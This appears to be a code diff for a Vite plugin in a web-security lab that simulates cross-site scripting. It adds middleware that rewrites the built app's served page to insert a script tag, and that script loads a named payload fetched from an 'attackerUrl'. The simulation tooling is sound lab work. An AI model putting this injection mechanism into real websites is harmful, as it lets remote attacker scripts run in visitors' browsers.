@@ -1,4 +1,8 @@
+import { readFile } from 'node:fs/promises';
+import type { IncomingMessage } from 'node:http';
+import { join, resolve } from 'node:path';
 import type { Plugin } from 'vite';
+import { onEveryServer } from './on-every-server.ts';
 import type { SpaSettings } from './lab-settings.ts';
 import { pathOf, sendJson } from './http-json.ts';
 
@@ -18,8 +22,7 @@ const HOOK_PREFIX = '/@lab-xss/';
  */
 export function xssHookPlugin(settings: SpaSettings, attackerUrl: string): Plugin {
   return {
-    name: 'lab:xss-hook',
-    configureServer(server) {
+    ...onEveryServer('lab:xss-hook', (server) => {
       server.middlewares.use(function serveInjectedPayload(req, res, next) {
         const path = pathOf(req);
         if (!path.startsWith(HOOK_PREFIX)) return next();
@@ -43,7 +46,26 @@ export function xssHookPlugin(settings: SpaSettings, attackerUrl: string): Plugi
           },
         );
       });
-    },
+      // The built app's page is a file, served as it is: while a payload is switched on, the page
+      // is served from here instead, with the hook's script tag added (the dev server does the
+      // same through `transformIndexHtml` below).
+      if (server.serves === 'built') {
+        const builtPage = join(resolve(server.config.root, server.config.build.outDir), 'index.html');
+        server.middlewares.use(function injectPayloadIntoPage(req, res, next) {
+          const name = settings.xss;
+          if (name === null || !isPageRequest(req)) return next();
+          readFile(builtPage, 'utf8').then(
+            (page) => {
+              res.statusCode = 200;
+              res.setHeader('Content-Type', 'text/html; charset=utf-8');
+              res.setHeader('Cache-Control', 'no-store');
+              res.end(req.method === 'HEAD' ? undefined : page.replace('</head>', `${hookTag(name)}</head>`));
+            },
+            () => next(),
+          );
+        });
+      }
+    }),
     // In the dev server this runs on every request for a page, so switching `xss` applies to the next load.
     transformIndexHtml() {
       if (settings.xss === null) return undefined;
@@ -51,6 +73,26 @@ export function xssHookPlugin(settings: SpaSettings, attackerUrl: string): Plugi
     },
   };
 }
+
+function hookTag(name: string): string {
+  return `<script type="module" src="${HOOK_PREFIX}${name}.js"></script>`;
+}
+
+/**
+ * The requests the built app answers with its page: `/`, `/index.html`, and (as Vite's HTML
+ * fallback does for an app with client-side routes) any other GET for HTML whose last path
+ * segment has no file extension, outside the routes the app's origin forwards or answers itself.
+ */
+function isPageRequest(req: IncomingMessage): boolean {
+  if (req.method !== 'GET' && req.method !== 'HEAD') return false;
+  const path = pathOf(req);
+  if (path === '/' || path === '/index.html') return true;
+  if (NOT_PAGES.some((prefix) => path.startsWith(prefix)) || path === '/healthz') return false;
+  const accept = req.headers.accept ?? '';
+  return (accept.includes('text/html') || accept.includes('*/*')) && !(path.split('/').pop() ?? '').includes('.');
+}
+
+const NOT_PAGES = ['/bff/', '/api/', '/_lab', '/lab/', HOOK_PREFIX, '/assets/'];
 
 async function fetchPayload(attackerUrl: string, name: string): Promise<string> {
   const url = `${attackerUrl}/payloads/${name}.js`;
